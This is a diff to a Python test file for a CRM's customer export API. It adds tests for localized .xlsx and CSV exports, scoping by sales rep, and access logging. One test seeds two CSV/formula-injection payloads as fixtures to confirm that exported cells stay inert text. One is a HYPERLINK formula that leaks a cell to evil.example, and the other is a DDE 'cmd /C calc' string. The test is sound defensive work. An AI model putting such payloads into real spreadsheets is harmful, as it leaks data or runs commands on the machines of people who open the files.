@@ -1,6 +1,6 @@
 """Exports through the real api: the data-subject export holds everything this service keeps
-about the customer (access-logged, privacy roles only); the CSV export streams what the
-caller may see, in the import's format."""
+about the customer (access-logged, privacy roles only); the CSV and .xlsx exports stream what
+the caller may see, in the import's format, headed in the caller's language."""
 
 from __future__ import annotations
 
@@ -8,10 +8,13 @@ import csv
 import io
 
 import grpc
+import openpyxl
 import pytest
+from crm.common.v1 import types_pb2
 from crm.customer.v1 import customer_pb2
 from crm_shared.auth import Principal
 from crm_shared.auth.principal import DataScope
+from crm_shared.grpc.status import describe_rpc_error
 from customer_service import personal_data
 from google.protobuf.json_format import MessageToDict
 
@@ -242,10 +245,94 @@ def test_no_exported_cell_runs_as_a_formula_and_the_file_still_reads_back(api):
     )
 
 
-def test_an_unknown_column_is_refused(api):
+@pytest.mark.parametrize(
+    "request_fields, field",
+    [
+        ({"columns": ["salary"]}, "columns[0]"),
+        ({"locale": "fr-FR"}, "locale"),
+        ({"format": 9}, "format"),
+    ],
+)
+def test_an_unknown_column_locale_or_format_is_refused(api, request_fields, field):
     stub, _ = api
     with pytest.raises(grpc.RpcError) as caught:
-        list(
-            stub(REP_EAST).ExportCustomers(customer_pb2.ExportCustomersRequest(columns=["salary"]))
+        list(stub(REP_EAST).ExportCustomers(customer_pb2.ExportCustomersRequest(**request_fields)))
+    error = describe_rpc_error(caught.value)
+    assert error.code is grpc.StatusCode.INVALID_ARGUMENT
+    assert [v.field for v in error.violations] == [field]
+
+
+def _xlsx(stub, who, **request) -> openpyxl.Workbook:
+    data = b"".join(
+        chunk.data
+        for chunk in stub(who).ExportCustomers(
+            customer_pb2.ExportCustomersRequest(format=types_pb2.TABLE_FORMAT_XLSX, **request)
         )
-    assert caught.value.code() is grpc.StatusCode.INVALID_ARGUMENT
+    )
+    return openpyxl.load_workbook(io.BytesIO(data))
+
+
+def test_the_xlsx_export_as_a_rep_holds_only_their_customers_under_chinese_headers(api):
+    """Issue 20: the reader library opens it; the rep's customers only, each access-logged."""
+    stub, _ = api
+    east = [_create(stub, REP_EAST, f"东{i}", phone=f"1380000000{i}") for i in range(3)]
+    _create(stub, REP_NORTH, "北0")
+
+    sheet = _xlsx(stub, REP_EAST, locale="zh-CN", columns=["display_name", "phone"]).active
+    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
+    assert sheet.title == "客户"
+    assert rows[0] == ["客户名称", "手机"]
+    assert sorted(rows[1:]) == [[f"东{i}", f"+861380000000{i}"] for i in range(3)]
+    english = _xlsx(stub, REP_EAST, locale="en-US", columns=["display_name"]).active
+    assert next(english.iter_rows(values_only=True)) == ("display_name",)
+
+    log = (
+        stub(DPO)
+        .ListAccessLogEntries(
+            customer_pb2.ListAccessLogEntriesRequest(
+                actor_id="u-east", action=customer_pb2.ACCESS_ACTION_EXPORT
+            )
+        )
+        .access_log_entries
+    )
+    assert sorted(entry.customer_id for entry in log) == sorted(2 * [c.id for c in east])
+
+    _chunks, chinese_csv = _csv(stub, REP_EAST, locale="zh-CN", columns=["display_name"])
+    assert sorted(row["客户名称"] for row in chinese_csv) == ["东0", "东1", "东2"]
+
+
+def test_no_xlsx_cell_runs_as_a_formula_and_the_workbook_reads_back(api):
+    """An .xlsx cell is typed: every exported one is text (never a formula), one that looks
+    like a formula also carries Excel's quote prefix, and the value is unchanged, so the
+    workbook imports back as it was."""
+    stub, _ = api
+    name = '=HYPERLINK("https://evil.example/?leak="&C2,"Open")'
+    needs = "@SUM(1+1)*cmd|' /C calc'!A0"
+    _create(stub, REP_EAST, name, phone="13912345678", needs=needs, source_detail="-2+3")
+    columns = ["type", "display_name", "phone", "needs", "source_detail"]
+
+    book = _xlsx(stub, REP_EAST, columns=columns)
+    _header, row = book.active.iter_rows()
+    assert [cell.value for cell in row] == ["individual", name, "+8613912345678", needs, "-2+3"]
+    assert {cell.data_type for cell in row} == {"s"}
+    assert [cell.quotePrefix for cell in row] == [False, True, True, True, True]
+
+    file = io.BytesIO()
+    book.save(file)
+    report = stub(REP_NORTH).ImportCustomers(
+        customer_pb2.ImportCustomersRequest(
+            csv_content=file.getvalue(), duplicate_handling=customer_pb2.DUPLICATE_HANDLING_CREATE
+        )
+    )
+    assert [(row.status, list(row.errors)) for row in report.rows] == [
+        (customer_pb2.IMPORT_ROW_STATUS_IMPORTED, [])
+    ]
+    copy = stub(REP_NORTH).GetCustomer(
+        customer_pb2.GetCustomerRequest(id=report.rows[0].customer_id)
+    )
+    assert (copy.display_name, copy.phone, copy.needs, copy.source_detail) == (
+        name,
+        "+8613912345678",
+        needs,
+        "-2+3",
+    )
